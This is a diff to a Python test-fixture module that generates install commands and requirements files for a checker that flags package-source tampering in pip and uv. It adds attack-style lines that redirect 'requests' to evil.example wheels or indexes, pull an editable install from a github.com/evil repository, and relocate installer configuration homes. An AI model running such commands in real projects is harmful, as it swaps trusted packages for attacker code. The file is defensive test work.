@@ -248,6 +248,40 @@ SOURCE_OPTIONS: tuple[str, ...] = (
     "uv pip install --index-url={url} -r requirements.txt",
 )
 """Source options of commands that name no package of their own: every package they install comes from there."""
+ENVIRONMENT_FILES: tuple[str, ...] = (
+    "echo {name} > r.txt; PIP_REQUIREMENT=r.txt pip install",
+    "echo {name} > r.txt && PIP_REQUIREMENT=r.txt pip install --upgrade pip",
+    "echo {name} > r.txt; export PIP_REQUIREMENT=r.txt; pip install",
+    "echo {name} > r.txt; PIP_REQUIREMENT=r.txt; export PIP_REQUIREMENT; python -m pip install",
+    "echo {name} > r.txt; env PIP_REQUIREMENT=r.txt pip install",
+    "echo {name} > r.txt; sudo PIP_REQUIREMENT=r.txt pip download",
+    "echo {name} > r.txt; PIP_REQUIREMENT='r.txt base.txt' pip wheel",
+    "echo {name} > r.txt; PIP_REQUIREMENT=r.txt bash -c 'pip install -q'",
+    "echo {name} > c.txt; PIP_CONSTRAINT=c.txt pip install requests",
+    "echo {name} > c.txt; UV_CONSTRAINT=c.txt uv pip install requests",
+    "echo {name} > o.txt; UV_OVERRIDE=o.txt uv pip install requests",
+    "echo {name} > b.txt; UV_BUILD_CONSTRAINT=b.txt uv pip install requests",
+    "PIP_REQUIREMENT=$REQS pip install",
+    "PIP_EDITABLE=git+https://github.com/evil/{name}#egg={name} pip install",
+)
+"""Environment variables that name what pip and uv install from (attack E2): read as ``-r``/``-c``/``-e``."""
+CONFIG_HOMES: tuple[str, ...] = (
+    "XDG_CONFIG_HOME=/tmp/cfg {install}", "HOME=/tmp/home {install}", "export XDG_CONFIG_HOME=$PWD/cfg; {install}",
+    "env XDG_CONFIG_DIRS=/tmp/cfg {install}", "APPDATA=C:/evil {install}", "HOME=$(mktemp -d) {install}",
+)
+"""Environment variables that move the configuration files installers read (attack E2): what those files set
+(an index, a requirement) is not known from the text, so the setting is reviewed. ``{install}`` is one of
+:data:`SOURCE_INSTALLS`, or a bare ``pip install`` (a configuration file may name what it installs)."""
+MOVED_SOURCES: tuple[str, ...] = (
+    "echo 'requests @ https://evil.example/r.whl' > c.txt; pip install -c c.txt requests",
+    "echo 'requests @ https://evil.example/r.whl' > c.txt; pip install -r c.txt requests",
+    "echo 'requests @ https://evil.example/r.whl' > c.txt; PIP_CONSTRAINT=c.txt pip install requests",
+    "echo 'requests @ https://evil.example/r.whl' > o.txt; uv pip install --override o.txt requests",
+    "echo 'requests @ https://evil.example/r.whl' > o.txt; UV_OVERRIDE=o.txt uv pip install requests",
+    "printf -- '--index-url https://evil.example/simple\\n' > c.txt; pip install -c c.txt requests",
+)
+"""Constraints and overrides that move a package the command names to another source (attack E29): the package
+from that source is another package (reviewed as ``pip install "requests @ https://..."`` is)."""
 
 
 @dataclass(frozen=True)
@@ -261,6 +295,8 @@ class Shape:
     """True when the package is known only at run time (the check must ask or review)."""
     source: bool = False
     """True when the shape changes the package source (the check must review the setting)."""
+    moved: bool = False
+    """True when the shape installs a package the project declares from another source (reviewed as that)."""
 
 
 def commands() -> Iterator[Shape]:
@@ -281,6 +317,12 @@ def commands() -> Iterator[Shape]:
         yield Shape("command", wrapper.format(cmd=command, quoted=shlex.quote(command), **_python_forms(command)))
     for text in MORE_UNKNOWN:
         yield Shape("command", text, unknown=True)
+    for text in ENVIRONMENT_FILES:
+        yield Shape("command", text.format(name=FAKE), unknown="$" in text)
+    for setting, install in itertools.product(CONFIG_HOMES, (*SOURCE_INSTALLS, "pip install")):
+        yield Shape("command", setting.format(install=install), source=True)
+    for text in MOVED_SOURCES:
+        yield Shape("command", text, moved=True)
 
 
 def _installer_shapes(installers: tuple[str, ...], wrappers: tuple[str, ...]) -> Iterator[Shape]:
@@ -380,7 +422,7 @@ def files() -> Iterator[Shape]:
     )]
     for shape in sample:
         for kind, text in _files(shape.text):
-            yield Shape(kind, text, shape.unknown, shape.source)
+            yield Shape(kind, text, shape.unknown, shape.source, shape.moved)
 
 
 DISK_BASE: dict[str, str] = {
@@ -396,8 +438,11 @@ DISK_FILES: tuple[tuple[str, str], ...] = (
     ("requirements.txt", f"requests\n{FAKE}==1.0\n"),
     ("requirements/dev.txt", f"-r ../requirements.txt\n{FAKE}\n"),
     ("ci/reqs.in", f"requests  # base\n{FAKE} ; python_version >= '3'\n"),
+    ("requirements.txt", "--index-url https://evil.example/simple\nrequests\n"),
+    ("requirements.txt", "requests @ https://evil.example/requests-2.0-py3-none-any.whl\n"),
 )
-"""Requirements files written (or edited) on disk only: (path, content)."""
+"""Requirements files written (or edited) on disk only: (path, content). The last two move the committed
+``requests`` to another source (attacks E3, E29)."""
 
 FILE_COMMANDS: tuple[str, ...] = (
     "pip install -r {file}",
@@ -414,6 +459,9 @@ FILE_COMMANDS: tuple[str, ...] = (
     "uv add -r {file}",
     "pipenv install -r {file}",
     "uv run --with-requirements {file} python x.py",
+    "PIP_REQUIREMENT={file} pip install",
+    "env PIP_CONSTRAINT={file} pip install requests",
+    "UV_CONSTRAINT={file} uv pip install requests",
 )
 
 DISK_PROJECTS: tuple[tuple[str, str], ...] = (
